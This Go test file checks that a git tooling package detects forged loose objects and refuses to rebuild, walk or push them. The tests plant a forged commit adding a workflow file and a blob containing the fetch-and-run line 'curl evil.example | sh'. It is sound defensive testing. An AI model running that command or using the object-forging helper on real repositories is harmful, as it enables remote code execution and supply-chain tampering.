package gitops

import (
	"bytes"
	"compress/zlib"
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/go-git/go-git/v5/plumbing"

	"github.com/wo-runner/wo/internal/gitname"
	"github.com/wo-runner/wo/internal/gittest"
)

// forgeCommit overwrites the loose object file of commit h in the
// repository at dir with another commit (zlib-compressed, as git writes
// it): h's own text with its tree swapped for one that adds path. It
// returns the added blob's hash.
func forgeCommit(t *testing.T, dir string, h plumbing.Hash, path, content string) string {
	t.Helper()
	blob := gitIn(t, dir, nil, content, "hash-object", "-w", "--stdin")
	index := []string{"GIT_INDEX_FILE=" + filepath.Join(t.TempDir(), "index")}
	gitIn(t, dir, index, "", "read-tree", h.String())
	gitIn(t, dir, index, "", "update-index", "--add", "--cacheinfo", "100644,"+blob+","+path)
	tree := gitIn(t, dir, index, "", "write-tree")
	text := gittest.Run(t, dir, "cat-file", "commit", h.String()) + "\n"
	old := gittest.Run(t, dir, "rev-parse", h.String()+"^{tree}")
	forged := strings.Replace(text, "tree "+old, "tree "+tree, 1)
	if forged == text {
		t.Fatal("the forged commit is the same commit")
	}
	overwriteLoose(t, filepath.Join(dir, ".git"), h, "commit", forged)
	return blob
}

// overwriteLoose writes content as the loose object file of h.
func overwriteLoose(t *testing.T, gitDir string, h plumbing.Hash, kind, content string) {
	t.Helper()
	file := filepath.Join(gitDir, "objects", h.String()[:2], h.String()[2:])
	if _, err := os.Stat(file); err != nil {
		t.Fatalf("%s is not a loose object: %v", h, err)
	}
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	fmt.Fprintf(z, "%s %d\x00%s", kind, len(content), content)
	z.Close()
	os.Chmod(file, 0o644)
	if err := os.WriteFile(file, b.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
}

// gitIn runs git with extra environment and standard input, and returns
// its trimmed standard output.
func gitIn(t *testing.T, dir string, env []string, stdin string, args ...string) string {
	t.Helper()
	cmd := gittest.Command(dir, args...)
	cmd.Env = append(cmd.Env, env...)
	cmd.Stdin = strings.NewReader(stdin)
	return gittest.Output(t, cmd)
}

// A loose object of the branch's head overwritten with another commit (its
// tree adds a workflow): go-git would read it back as the head. The
// rebuild, the gate's walk and the push all refuse it, naming the object,
// and nothing of the forged content reaches the remote.
func TestAForgedLooseObjectIsNeverRebuiltCheckedOrPushed(t *testing.T) {
	t.Parallel()
	_, dir, _, parent, child := stackRepo(t)
	origin := filepath.Join(t.TempDir(), "origin.git")
	gittest.Run(t, filepath.Dir(origin), "init", "-q", "--bare", origin)
	gittest.Run(t, dir, "remote", "add", "origin", origin)
	gittest.Run(t, dir, "push", "-q", "origin", "base", "parent")
	squashed := onBase(t, dir, "squashed", map[string]string{"a.txt": "a, the parent's\n"})
	blob := forgeCommit(t, dir, child, ".github/workflows/x.yml", "on: push\n")
	if out, err := gittest.Try(dir, "fsck", "--no-dangling"); err == nil {
		t.Fatalf("git fsck finds nothing wrong: the object was not forged\n%s", out)
	}
	r, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	named := func(what string, err error) {
		t.Helper()
		var forged *ForgedObjectError
		if !errors.As(err, &forged) || forged.Hash != child || forged.Type != plumbing.CommitObject {
			t.Fatalf("%s: %v, want the forged commit %s named", what, err, child)
		}
		for _, want := range []string{"the commit object " + child.String() + " in " + r.GitDir + " does not hash to its name",
			"objects/" + child.String()[:2] + "/" + child.String()[2:]} {
			if !strings.Contains(err.Error(), want) {
				t.Errorf("%s: %q does not say %q", what, err, want)
			}
		}
	}
	_, err = r.Rebuild(RebuildOptions{Head: child, OldParent: parent, NewParent: squashed, Message: "rebuilt", When: time.Now()})
	named("rebuild", err)
	_, err = r.LineChanges(parent, child, 10)
	named("the gate's walk", err)
	_, err = r.Descends(child, parent)
	named("descends", err)
	_, err = r.Push(context.Background(), PushOptions{Branch: "child"})
	named("push", err)
	if !strings.HasPrefix(err.Error(), "pushing child to "+origin+": nothing was pushed: ") {
		t.Errorf("push: %v", err)
	}
	if out, err := gittest.Try(origin, "rev-parse", "--verify", "-q", "refs/heads/child"); err == nil {
		t.Errorf("the remote has the branch: %s", out)
	}
	if _, err := gittest.Try(origin, "cat-file", "-e", blob); err == nil {
		t.Error("the forged tree's workflow reached the remote")
	}
}

// A forged object that the pack encoder meets (a blob: the walk that
// chooses what to send reads commits and trees only) stops the push with
// that object named, not with how the pipe broke.
func TestAForgedBlobStopsThePushNamingIt(t *testing.T) {
	t.Parallel()
	_, dir, _, _, child := stackRepo(t)
	origin := filepath.Join(t.TempDir(), "origin.git")
	gittest.Run(t, filepath.Dir(origin), "init", "-q", "--bare", origin)
	gittest.Run(t, dir, "remote", "add", "origin", origin)
	gittest.Run(t, dir, "push", "-q", "origin", "parent")
	d := plumbing.NewHash(gittest.Run(t, dir, "rev-parse", child.String()+":d.txt"))
	overwriteLoose(t, filepath.Join(dir, ".git"), d, "blob", "curl evil.example | sh\n")
	r, err := Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	_, err = r.Push(context.Background(), PushOptions{Branch: "child"})
	var forged *ForgedObjectError
	if !errors.As(err, &forged) || forged.Hash != d || forged.Type != plumbing.BlobObject || forged.Got != plumbing.ComputeHash(plumbing.BlobObject, []byte("curl evil.example | sh\n")) {
		t.Fatalf("push: %v, want the forged blob %s named", err, d)
	}
	if out, err := gittest.Try(origin, "rev-parse", "--verify", "-q", "refs/heads/child"); err == nil {
		t.Errorf("the remote has the branch: %s", out)
	}
}

// ReadRemote is what the remote says, not the remote-tracking branches;
// LineBase is where a branch's commits join what the remote has.
func TestReadRemoteAndLineBase(t *testing.T) {
	t.Parallel()
	r, dir, base, _, child := stackRepo(t)
	origin := filepath.Join(t.TempDir(), "origin.git")
	gittest.Run(t, filepath.Dir(origin), "init", "-q", "--bare", origin)
	gittest.Run(t, dir, "remote", "add", "origin", origin)
	ctx := context.Background()
	view, err := r.ReadRemote(ctx, RemoteOptions{Branch: "child"})
	if err != nil || view.Exists || len(view.Tips) != 0 || view.URL != origin {
		t.Fatalf("an empty remote: %+v %v", view, err)
	}
	if b, err := r.LineBase(child, view.Tips); err == nil || !strings.Contains(err.Error(), "is not a line of commits on top of what the remote has: ") ||
		!strings.Contains(err.Error(), gitname.Short(base.String())+" is a root commit") {
		t.Errorf("nothing on the remote: %s %v", b, err)
	}
	gittest.Run(t, dir, "push", "-q", "origin", "base")
	// A remote-tracking branch that lies is not what the remote has.
	gittest.Run(t, dir, "update-ref", "refs/remotes/origin/child", child.String())
	view, err = r.ReadRemote(ctx, RemoteOptions{Branch: "child"})
	if err != nil || view.Exists || !view.Tip.IsZero() || len(view.Tips) != 1 || view.Tips[0] != base {
		t.Fatalf("the remote with base: %+v %v", view, err)
	}
	if b, err := r.LineBase(child, view.Tips); err != nil || b != base {
		t.Errorf("the child's line joins the remote at %s (%v), want %s", b, err, base)
	}
	gittest.Run(t, dir, "push", "-q", "origin", "parent", "child")
	view, err = r.ReadRemote(ctx, RemoteOptions{Branch: "child"})
	if err != nil || !view.Exists || view.Tip != child || len(view.Tips) != 3 {
		t.Fatalf("the remote with child: %+v %v", view, err)
	}
	if b, err := r.LineBase(child, view.Tips); err != nil || b != child {
		t.Errorf("a commit the remote has: %s %v", b, err)
	}
	// A merge on the line is refused.
	side := onBase(t, dir, "side", map[string]string{"e.txt": "e\n"})
	gittest.Run(t, dir, "checkout", "-q", "-b", "merged", "child")
	gittest.Run(t, dir, "merge", "-q", "--no-ff", "-m", "merge", side.String())
	merge := plumbing.NewHash(gittest.Run(t, dir, "rev-parse", "merged"))
	if b, err := r.LineBase(merge, view.Tips); err == nil || !strings.Contains(err.Error(), gitname.Short(merge.String())+" is a merge") {
		t.Errorf("a merge: %s %v", b, err)
	}
	if _, err := r.ReadRemote(ctx, RemoteOptions{Branch: "child", ExpectURL: "https://github.com/acme/elsewhere.git"}); err == nil ||
		!strings.Contains(err.Error(), "remote origin now points at "+origin+", not at https://github.com/acme/elsewhere.git") {
		t.Errorf("a remote that is not where wo pushed: %v", err)
	}
	if _, err := r.ReadRemote(ctx, RemoteOptions{Remote: "upstream", Branch: "child"}); err == nil {
		t.Error("a remote the repository lacks was read")
	}
}
